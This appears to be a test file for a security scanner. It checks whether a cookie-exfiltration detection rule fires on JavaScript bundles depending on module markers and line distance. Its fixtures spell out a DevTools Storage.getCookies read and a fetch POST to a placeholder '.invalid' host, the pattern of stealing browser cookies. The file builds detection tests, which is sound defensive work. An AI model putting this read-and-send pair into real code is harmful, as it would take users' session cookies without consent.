/**
 * JavaScript bundles (src/inspect/bundles.ts): a file-scope rule reads each module a bundler marked as its own
 * file, and holds the signals of an unmarked multi-line bundle to BUNDLE_WINDOW_LINES of each other; a minified
 * bundle (few lines) and a small file stay one file. The behaviour pair here: a DevTools-protocol cookie read and
 * a network request (threat-extension-cookie-exfil, file scope). Inert: never executed, .invalid hosts.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { loadRules } from '../../src/inspect/index.js';
import { inspectTarget } from '../../src/inspect/target.js';
import { BUNDLE_WINDOW_LINES, bundleShape, moduleOf } from '../../src/inspect/bundles.js';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'clawguard-bundles-'));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
const rules = loadRules();
let n = 0;

const READ = "  const { cookies } = await session.send('Storage.getCookies', { browserContextId });\n";
const SEND = "  await fetch('https://sync.example.invalid/c', { method: 'POST', body: JSON.stringify(data) });\n";
/** Lines of ordinary module code (~60 characters each). */
const filler = (lines: number, tag: string) => Array.from({ length: lines }, (_, i) => `  const ${tag}${i} = compute(${i}, "${'x'.repeat(24)}");\n`).join('');
const esbuildModule = (name: string, body: string) => `// src/${name}.ts\nasync function ${name}(session, data, browserContextId) {\n${body}}\n`;

function cookieFindings(bundle: string): number {
  const dir = path.join(tmp, `b${n++}`);
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'bundle-case', version: '1.0.0', main: 'index.js' }));
  fs.writeFileSync(path.join(dir, 'index.js'), bundle);
  return inspectTarget(dir, rules, { target: 'package' }).findings.filter((f) => f.ruleId === 'threat-extension-cookie-exfil').length;
}

describe('bundle shapes', () => {
  it('a large multi-line file with a bundler’s module markers is split at them; without markers it is read by window', () => {
    const marked = esbuildModule('a', filler(3000, 'a')) + esbuildModule('b', filler(3000, 'b')) + esbuildModule('c', filler(10, 'c'));
    const shape = bundleShape(marked);
    expect(shape?.modules).toEqual([1, 3004, 6007]);
    expect([moduleOf(shape!, 1), moduleOf(shape!, 3003), moduleOf(shape!, 3004), moduleOf(shape!, 9999)]).toEqual([0, 0, 1, 2]);
    expect(bundleShape(filler(6000, 'u'))?.modules).toEqual([]);
    // Small, or few lines (minified): not a bundle.
    expect(bundleShape(esbuildModule('a', filler(100, 'a')))).toBeUndefined();
    expect(bundleShape(filler(6000, 'm').replace(/\n/g, ' '))).toBeUndefined();
  });
});

describe('file-scope rules in bundles', () => {
  it('marked modules: a read in one module and a send in another are not one module’s doing; in one module they are', () => {
    const tail = esbuildModule('index', filler(10, 'c'));
    const apart = esbuildModule('cookies', READ + filler(3000, 'a')) + esbuildModule('image', filler(3000, 'b') + SEND) + tail;
    expect(cookieFindings(apart)).toBe(0);
    const together = esbuildModule('cookies', READ + filler(3000, 'a') + SEND) + esbuildModule('image', filler(3000, 'b')) + tail;
    expect(cookieFindings(together)).toBe(1);
  });

  it(`unmarked: the pair must lie within ${BUNDLE_WINDOW_LINES} lines`, () => {
    const far = `async function f(session, data, browserContextId) {\n${READ}${filler(6000, 'a')}${SEND}}\n`;
    expect(cookieFindings(far)).toBe(0);
    const near = `async function f(session, data, browserContextId) {\n${filler(3000, 'a')}${READ}${filler(50, 'b')}${SEND}${filler(3000, 'c')}}\n`;
    expect(cookieFindings(near)).toBe(1);
  });

  it('a minified bundle or a small file stays one file, however far apart', () => {
    const minified = `async function f(session, data, browserContextId) {${READ}${filler(6000, 'a')}${SEND}}`.replace(/\n/g, ' ');
    expect(cookieFindings(minified)).toBe(1);
    const small = `async function f(session, data, browserContextId) {\n${READ}${filler(2000, 'a')}${SEND}}\n`;
    expect(cookieFindings(small)).toBe(1);
  });
});
